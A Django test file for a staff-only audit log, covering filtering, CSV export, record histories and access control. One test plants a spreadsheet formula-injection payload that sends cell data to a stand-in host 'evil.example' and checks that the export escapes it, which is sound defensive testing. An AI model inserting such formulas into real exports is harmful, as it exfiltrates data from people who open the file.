"""Staff read the audit log, filter it and download it; each cluster and organisation has its
history. Nobody else sees them."""

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse

from tinklas.accounts.tests.factories import cluster_manager, superuser
from tinklas.clusters.models import Cluster
from tinklas.clusters.tests.factories import ClusterFactory
from tinklas.clusters.tests.test_self_service_profile import form_data
from tinklas.organisations.models import Organisation
from tinklas.organisations.tests.factories import rename_in_admin

pytestmark = pytest.mark.django_db


@pytest.fixture
def staff(client):
    user = superuser("staff-audit@example.org")
    client.force_login(user)
    return user


def rename(client, organisation, name, request_id):
    response = rename_in_admin(client, organisation, name, HTTP_X_REQUEST_ID=request_id)
    assert response.status_code == 302


def test_staff_filter_the_log_and_download_it(client, staff):
    first = Organisation.objects.create(name="UAB Pirma", kind="company")
    second = Organisation.objects.create(name="UAB Antra", kind="company")
    rename(client, first, "UAB Pirmoji", "request-first")
    rename(client, second, "UAB Antroji", "request-second")

    page = client.get(reverse("audit:log"), {"request_id": "request-first"})
    entries = list(page.context["page"].object_list)
    assert [entry.object_repr for entry in entries] == ["UAB Pirmoji"]
    assert "UAB Pirma → UAB Pirmoji" in page.content.decode()

    updates = client.get(reverse("audit:log"), {"action": "1", "actor": "staff-audit"})
    assert {entry.object_repr for entry in updates.context["page"].object_list} == {
        "UAB Pirmoji",
        "UAB Antroji",
    }

    download = client.get(reverse("audit:log"), {"format": "csv", "record": "antroji"})
    assert download["Content-Type"].startswith("text/csv")
    rows = downloaded_rows(download)
    assert rows[0][:3] == ["time", "action", "kind of record"]
    assert [row[3] for row in rows[1:]] == ["UAB Antroji"]
    assert rows[1][5] == "staff-audit@example.org"
    assert rows[1][6] == "request-second"


def downloaded_rows(response) -> list[list[str]]:  # type: ignore[no-untyped-def]
    # A byte-order mark first, so that spreadsheets read the file as UTF-8.
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))


def test_a_name_a_manager_made_a_formula_is_plain_text_in_the_staff_download(client, staff):
    cluster = ClusterFactory(name_lt="Maisto klasteris", name_en="Food cluster")
    formula = '=HYPERLINK("http://evil.example/steal?x="&A1,"Open")'
    manager = Client()
    manager.force_login(cluster_manager(cluster))
    edit_url = reverse("clusters:edit", args=[cluster.slug])
    data = form_data(manager.get(edit_url))
    data.update(name_lt=formula, name_en=formula)
    assert manager.post(edit_url, data).status_code == 302

    download = client.get(reverse("audit:log"), {"format": "csv", "record": "HYPERLINK"})
    header, *rows = downloaded_rows(download)
    record = header.index("record")
    assert [row[record] for row in rows] == ["'" + formula]
    assert not any(cell.startswith(("=", "@", "+", "-")) for row in rows for cell in row)


def test_history_of_a_cluster_and_an_organisation(client, staff):
    cluster = Cluster.objects.create(name_lt="Istorija", name_en="History", status="published")
    cluster.acronym = "IST"
    cluster.save()
    response = client.get(reverse("audit:cluster-history", args=[cluster.slug]))
    assert response.status_code == 200
    assert [entry.get_action_display() for entry in response.context["page"].object_list] == [
        "update",
        "create",
    ]
    organisation = Organisation.objects.create(name="UAB Istorija", kind="company")
    response = client.get(reverse("audit:organisation-history", args=[organisation.slug]))
    assert len(response.context["page"].object_list) == 1


def test_bad_filter_values_are_reported_not_fatal(client, staff):
    response = client.get(reverse("audit:log"), {"since": "yesterday", "action": "9"})
    assert response.status_code == 200
    assert response.context["form"].errors.keys() == {"since", "action"}


def test_only_staff_see_the_log_and_managers_their_cluster_history(client):
    response = client.get(reverse("audit:log"))
    assert response.status_code == 302
    assert "/accounts/login/" in response["Location"]
    cluster = Cluster.objects.create(name_lt="K", name_en="K", status="published")
    other = Cluster.objects.create(name_lt="L", name_en="L", status="published")
    client.force_login(cluster_manager(cluster))
    assert client.get(reverse("audit:log")).status_code == 403
    assert client.get(reverse("audit:cluster-history", args=[other.slug])).status_code == 403
    history = client.get(reverse("audit:cluster-history", args=[cluster.slug]))
    assert history.status_code == 200
    assert "History of K" in history.content.decode()
